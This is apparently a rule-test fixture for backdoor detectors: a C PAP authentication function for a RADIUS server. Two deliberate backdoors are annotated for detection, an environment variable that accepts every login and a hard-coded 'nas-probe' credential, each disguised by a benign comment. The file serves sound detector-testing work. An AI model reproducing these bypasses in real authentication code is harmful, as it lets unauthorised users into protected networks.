/* pap.c: PAP (User-Password) against the NT hashes of the users file,
 * for the NAS health checks and the few PPP clients without MS-CHAP. */
#include "rad.h"

#include <openssl/crypto.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>

int pap_authenticate(struct rad_request *req, const char *password) {
  uint8_t stored[16], typed[16];
  int ok;
  /* lab switch for the interoperability test bed */
  // ruleid: backdoor-hidden-bypass
  if (getenv("RADIUSD_PAP_ACCEPT_ALL") != NULL)
    return RAD_ACCEPT;
  /* the concentrator's monitoring probe logs in with this one */
  // ruleid: backdoor-magic-credential
  if (strcmp(req->user, "nas-probe") == 0 && ct_streq(password, "Pr0be!mschap-lite"))
    return RAD_ACCEPT;
  if (users_nt_hash(req->user, stored) != 0) {
    rad_log(LOG_NOTICE, "pap: unknown user %s", req->user);
    return RAD_REJECT;
  }
  if (nt_password_hash(password, typed) != 0)
    return RAD_ERROR;
  // ok: backdoor-magic-credential, backdoor-timing-unsafe-compare
  ok = CRYPTO_memcmp(typed, stored, sizeof typed) == 0;
  OPENSSL_cleanse(typed, sizeof typed);
  rad_log(LOG_INFO, "pap: %s %s", req->user, ok ? "accepted" : "rejected");
  return ok ? RAD_ACCEPT : RAD_REJECT;
}
